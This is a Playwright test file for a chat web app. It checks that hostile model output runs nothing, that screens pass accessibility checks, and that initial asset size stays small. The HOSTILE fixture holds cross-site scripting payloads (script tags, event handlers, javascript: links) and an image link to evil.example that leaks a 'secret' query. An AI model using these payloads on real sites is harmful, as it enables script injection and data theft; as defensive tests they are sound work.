"""Every screen: accessible, safe from the texts of models, and small."""

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.fakes.vendor import streams
from tests.page.conftest import ASSETS, PATIENCE_MS, ask, axe_violations

HOSTILE = r"""<script>document.title = 'pwned'</script>
<img src=x onerror="document.title='pwned'"> <svg onload="document.title='pwned'"></svg>
<iframe src="https://evil.example/frame"></iframe> <style>body{background:url(https://evil.example/css)}</style>

![leak](https://evil.example/leak.png?q=secret) [click](javascript:document.title='pwned') [data](data:text/html,<script>1</script>)

[ref]: javascript:document.title='pwned'
[ref] <a href="https://evil.example" onclick="document.title='pwned'">link</a> <https://evil.example/auto>

```html" onmouseover="document.title='pwned'
<script>document.title = 'pwned'</script>
```

$\href{javascript:document.title='pwned'}{x}$ $$\includegraphics{https://evil.example/tex.png}$$

<math><mtext><table><mglyph><style><img src=x onerror="document.title='pwned'"></style></mglyph></table></mtext></math>
<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>
| <b onclick=1> | `<img src=x>` |
|---|---|
| <object data="https://evil.example"></object> | <base href="https://evil.example/"> |
"""
DEAD = (
    "script, iframe, style, object, embed, base, .markdown img, .markdown svg, .markdown form, "
    "[onclick], [onerror], [onload], [onmouseover]"
)


def test_hostile_text_of_a_model_runs_nothing_and_asks_no_other_host(ada, vendor):
    vendor.script = streams(*re.findall(r".{1,40}", HOSTILE, re.DOTALL))
    tab = ada.open()
    ask(tab, HOSTILE)
    expect(tab.locator(".figures").last).to_contain_text("vendor")
    tab.wait_for_timeout(1000)

    inert = [one for one in tab.locator(DEAD).all() if one.evaluate("node => Boolean(node.closest('.message, .sidebar, .topbar'))")]
    assert inert == []
    assert "pwned" not in tab.title()
    assert tab.locator("a[href^='javascript:'], a[href^='data:']").count() == 0


FIXTURES = Path(__file__).with_name("hostile_html.json")


def test_hostile_fragments_in_every_place_run_nothing(ada, vendor):
    fragments = json.loads(FIXTURES.read_text())
    vendor.script = streams(*(f"{fragment}\n\n" for fragment in fragments))
    made = ada.context.request.post(f"{ada.url}/conversations", data={"title": fragments[0]}, headers=ada.headers).json()
    for fragment in fragments[:10]:
        ada.context.request.post(f"{ada.url}/memories", data={"text": fragment[:1000]}, headers=ada.headers)
    tab = ada.open(f"#/c/{made['id']}")
    ask(tab, "\n".join(fragments)[:30_000])
    expect(tab.locator(".figures").last).to_contain_text("vendor")
    tab.goto(f"{ada.url}/#/memory")
    expect(tab.locator(".card").first).to_be_visible()

    assert tab.evaluate("window.pwned === undefined")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_every_screen_is_accessible(ada, vendor, scheme, width):
    vendor.script = streams(
        "# Title\n\nA **bold** word, `code` and a [link](https://example.com).\n\n```python\nprint(1)\n```\n\n| a | b |\n|-|-|\n| 1 | 2 |"
    )
    tab = ada.open()
    tab.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    tab.set_viewport_size({"width": width, "height": 800})
    tab.locator(".welcome").wait_for()
    found = {"welcome": axe_violations(tab)}
    ask(tab, "Hello?")
    expect(tab.locator(".figures").last).to_contain_text("vendor")
    expect(tab.locator(".hljs-built_in, .hljs-number").first).to_be_visible()
    found["chat"] = axe_violations(tab)
    for screen in SCREENS:
        tab.goto(f"{ada.url}/#/{screen}")
        tab.wait_for_load_state("networkidle")
        tab.locator(".topbar h1").wait_for()
        tab.wait_for_timeout(200)
        found[screen] = axe_violations(tab)

    assert {name: broken for name, broken in found.items() if broken} == {}


SCREENS = ["documents", "memory", *(f"settings/{name}" for name in ("profile", "appearance", "usage", "tools", "keys", "security", "data"))]


@pytest.mark.parametrize("screen", ["sign-in", "register", "reset"])
def test_the_screens_before_a_session_are_accessible(visitor, screen):
    tab = visitor.open(f"#/{screen}")
    tab.locator("h1").wait_for(timeout=PATIENCE_MS)

    assert axe_violations(tab) == []


def compressed(name):
    """Return the size of a file as a browser receives it."""
    path = ASSETS / f"{name}.br"
    return (path if path.is_file() else ASSETS / name).stat().st_size


def test_little_is_loaded_before_a_person_can_type():
    document = (ASSETS / "index.html").read_text()
    first = ["index.html", *re.findall(r'assets/([^"]+)"', document)]
    every = [path.name for path in ASSETS.iterdir() if path.suffix in (".html", ".js", ".css")]

    assert len(first) > 2
    assert sum(map(compressed, first)) <= 120_000
    assert sum(map(compressed, every)) <= 200_000
